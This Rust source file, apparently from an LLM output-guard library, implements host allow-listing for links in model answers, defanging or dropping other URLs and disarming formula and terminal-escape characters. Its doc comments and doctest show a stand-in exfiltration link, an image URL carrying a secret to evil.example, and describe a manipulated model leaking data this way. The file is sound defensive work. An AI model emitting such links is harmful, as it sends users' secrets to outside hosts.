//! Links: the addresses an answer may name, and what becomes of all others.
//!
//! A model that was talked into it sends what it knows to any host whose image a reader's window loads. So the hosts that
//! answers may name are a list, and what leads elsewhere is changed in its place, the text around it stays:
//!
//! ```text
//! answer    ![plan](https://evil.example/p?d=secret)   see [Wiki](https://wiki.example/plan)
//! dropped   ![plan]([REDACTED_LINK])                   see [Wiki](https://wiki.example/plan)
//! defanged  ![plan](hxxps[:]//evil[.]example/p?d=secret)
//! ```
//!
//! A policy names them (`output.allow_hosts`, also for a destination or a tool), and so does whoever builds a guard; the
//! hosts of both may be named, and the stricter word on the others holds.

use llmguard_catalog::target::{permits, targets};
use llmguard_policy::Transform;

use crate::builder::GuardBuilder;

/// What becomes of an address that may not be named.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Neutralize {
    /// It stays to be read, and no renderer follows it: `hxxps[:]//evil[.]example/a`.
    Defang,
    /// It goes; the text of the link stays.
    Drop,
}

impl From<Neutralize> for Transform {
    fn from(neutralize: Neutralize) -> Transform {
        match neutralize {
            Neutralize::Defang => Transform::Generalize,
            Neutralize::Drop => Transform::Redact,
        }
    }
}

/// The hosts that a guard was built with, and what happens otherwise.
#[derive(Debug, Clone)]
pub(crate) struct Links {
    pub(crate) hosts: Vec<String>,
    pub(crate) otherwise: Neutralize,
}

/// The hosts that one text may name, in no order.
#[derive(Debug, Clone, Copy, Default)]
pub(crate) struct Hosts<'g> {
    pub(crate) of_policy: &'g [String],
    pub(crate) of_guard: &'g [String],
}

impl Hosts<'_> {
    pub(crate) fn permit(self, value: &str) -> bool {
        permits(self.of_policy.iter().chain(self.of_guard), value)
    }
}

impl GuardBuilder {
    /// Names the hosts that addresses in answers and tool calls may lead to (`example.com`, `*.example.com` for every one
    /// below it), and what becomes of all other addresses, in whatever markup they stand. Called again, it adds hosts; to
    /// those of the policy (`output.allow_hosts`) it adds as well, and the policy may be stricter on the others.
    ///
    /// ```
    /// use llmguard::{Direction, Guard, Neutralize, Request};
    ///
    /// let guard = Guard::builder().permit_links(["wiki.example"], Neutralize::Drop).build()?;
    /// let answer = "![](https://evil.example/p?d=1) [Wiki](https://wiki.example/plan)";
    /// let decision = guard.check(answer, &Request::new("buyer", "eu").direction(Direction::Response))?;
    /// assert_eq!(decision.output.as_deref(), Some("![]([REDACTED_LINK]) [Wiki](https://wiki.example/plan)"));
    /// # Ok::<(), llmguard::Error>(())
    /// ```
    #[must_use]
    pub fn permit_links<H: Into<String>>(
        mut self,
        hosts: impl IntoIterator<Item = H>,
        otherwise: Neutralize,
    ) -> GuardBuilder {
        let links = self.links.get_or_insert(Links { hosts: Vec::new(), otherwise });
        links.otherwise = otherwise;
        links.hosts.extend(hosts.into_iter().map(|host| host.into().to_lowercase()));
        self
    }
}

/// An address written so that nothing follows it: the first that a value has.
pub(crate) fn defang(value: &str) -> Option<String> {
    let target = targets(value).next()?;
    let scheme = match target.scheme.as_str() {
        "" => "hxxp".to_owned(),
        scheme => scheme.replacen("http", "hxxp", 1),
    };
    let shown = |text: &str| -> String {
        let plain = text.replace('.', "[.]").replace("//", "/[/]").replace(':', "[:]");
        plain
            .chars()
            .map(|c| if c.is_whitespace() || c.is_control() || "()<>\"'`\\{}|%".contains(c) { '_' } else { c })
            .collect()
    };
    let host = match target.host.as_str() {
        "" => String::new(),
        // A number or a name without a dot has no other place for a bracket.
        host if !host.contains('.') => format!("/[/]{}", shown(host)),
        host => format!("//{}", shown(host)),
    };
    let rest = if target.host.is_empty() || target.rest.starts_with(['/', '?', '#']) {
        shown(&target.rest)
    } else {
        String::new()
    };
    Some(format!("{scheme}[:]{host}{rest}"))
}

/// What a terminal, a browser or a spreadsheet would run, written so that it is shown.
pub(crate) fn disarm(value: &str) -> Option<String> {
    let mut shown = String::with_capacity(value.len() + 8);
    if value.starts_with(['=', '+', '-', '@']) {
        shown.push('\'');
    }
    for c in value.chars() {
        match c {
            '<' => shown.push_str("&lt;"),
            '>' => shown.push_str("&gt;"),
            '\u{1b}' | '\u{9b}' | '\u{9d}' | '\u{90}' => shown.push('\u{241b}'),
            '\u{7}' | '\u{9c}' | '\u{202b}' | '\u{2067}' => shown.push('\u{fffd}'),
            _ => shown.push(c),
        }
    }
    (shown != value).then_some(shown)
}
